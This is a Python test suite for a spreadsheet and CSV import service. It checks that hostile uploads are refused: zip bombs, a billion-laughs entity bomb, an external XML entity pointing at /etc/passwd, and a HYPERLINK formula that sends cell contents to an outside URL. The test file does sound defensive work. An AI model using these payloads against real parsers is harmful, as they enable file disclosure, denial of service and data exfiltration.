"""Lists that would harm whoever reads them, or whoever opens what comes back."""

import io
import zipfile

import pytest

from intake.api.sheets import MAX_FILE
from lists import CLERK, KINDS, SHARED, Desk, as_csv, as_workbook, cells, part_of, returned, row, with_part, with_shared

SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = b"""<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>"""
OUTSIDE = b"""<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>"""
PARTS = [SHARED, SHEET, "xl/workbook.xml", "xl/styles.xml", KINDS]


@pytest.fixture
def desk() -> Desk:
    return Desk()


def test_a_file_of_50_megabytes_is_refused_by_its_size(desk: Desk) -> None:
    answer = desk.http.post("/imports", content=b"PK\x03\x04" + b"x" * (50 * 1024 * 1024), headers=CLERK)
    assert answer.status_code == 413
    assert str(MAX_FILE) in answer.json()["detail"]


def test_a_bomb_is_not_unpacked(desk: Desk) -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for number in range(2):
            with archive.open(f"xl/part{number}.xml", "w") as part:
                for _ in range(33):
                    part.write(b" " * 1024 * 1024)
    assert len(file.getvalue()) < 500_000
    assert "unpacks" in desk.take(file.getvalue(), 413)["detail"]


def test_a_bomb_that_lies_about_its_size_is_not_unpacked_either(desk: Desk) -> None:
    big = b"<worksheet>" + b" " * 70 * 1024 * 1024 + b"</worksheet>"
    bomb = bytearray(with_part(as_workbook(row(1)), SHEET, big))
    size = len(big).to_bytes(4, "little")
    while (at := bomb.find(size)) >= 0:
        bomb[at : at + 4] = (1000).to_bytes(4, "little")
    assert [fault["path"] for fault in desk.take(bytes(bomb), 422)["faults"]] == ["file"]


@pytest.mark.parametrize("entities", [LAUGHS, OUTSIDE], ids=["laughs", "outside"])
@pytest.mark.parametrize("part", PARTS)
def test_entities_are_refused_wherever_they_stand(desk: Desk, part: str, entities: bytes) -> None:
    book = with_shared(as_workbook(row(1)))
    xml = part_of(book, part).removeprefix(b"<?xml version='1.0' encoding='UTF-8'?>")
    detail = desk.take(with_part(book, part, entities + xml), 422)["detail"]
    assert "cannot be read" in detail
    assert "root:" not in detail
    assert desk.take(with_part(book, part, xml))["new"] == 1


def test_a_line_far_down_costs_no_more_than_the_lines_that_are_scanned(desk: Desk) -> None:
    book = as_workbook(row(1))
    far = part_of(book, SHEET).replace(b'<row r="2"', b'<row r="999999999999"')
    far = far.replace(b'2" t=', b'999999999999" t=')
    assert "lines" in desk.take(with_part(book, SHEET, far), 413)["detail"]


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "xls"),
        (b"PK\x03\x04 no archive", "BadZipFile"),
        (b"\xff\xfe\x00", "neither"),
        (b'\xe6\xa0\x87\xe9\xa2\x98,"a\n1,2', "not CSV"),
        (b"\x89PNG\r\n\x1a\n\x80\x81\x82\xff", "neither"),
        (b"", "缺少列"),
    ],
)
def test_what_cannot_be_read_is_refused_with_a_reason(desk: Desk, data: bytes, why: str) -> None:
    assert why in desk.take(data, 422)["detail"]


def test_formulas_are_neither_computed_nor_taken_nor_given_back(desk: Desk) -> None:
    link = '=HYPERLINK("http://example.org/?"&H2,"看")'
    book = desk.take(as_workbook(row(1, 标题=link), row(2, 内容="#REF!")))
    assert [(fault["line"], fault["column"]) for fault in book["faults"]] == [(2, "标题"), (3, "内容")]
    assert cells(returned(book))[1][1] == "'" + link
    text = desk.take(as_csv(row(3, 标题="=1+1"), row(4, 标题='="0931"')))
    assert [(fault["line"], fault["column"]) for fault in text["faults"]] == [(2, "标题")]
    assert "'=1+1" in returned(text).decode("utf-8-sig")
    again = desk.take(returned(text))
    assert again["refused"] == 1
    assert [issue.content.title for issue in desk.issues.all()] == ["0931"]


def test_a_list_without_end_is_refused(desk: Desk) -> None:
    assert "20000" in desk.take(as_csv(*([row(1)] * 20_001)), 413)["detail"]
